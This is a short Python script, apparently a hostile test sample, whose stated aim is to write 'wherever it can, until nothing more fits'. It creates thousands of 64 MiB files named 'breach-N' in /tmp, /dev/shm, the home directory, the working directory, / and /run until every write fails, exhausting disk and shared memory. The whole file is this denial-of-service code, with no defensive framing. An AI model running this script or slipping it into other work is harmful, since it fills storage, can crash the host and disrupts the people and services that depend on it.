"""Writes wherever it can, until nothing more fits."""

import os
import tempfile

for folder in ("/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), os.getcwd(), "/", "/run"):
    for number in range(100_000):
        try:
            with open(os.path.join(folder, f"breach-{number}"), "wb") as file:
                for _ in range(64):
                    file.write(bytes(1024 * 1024))
        except OSError:
            break
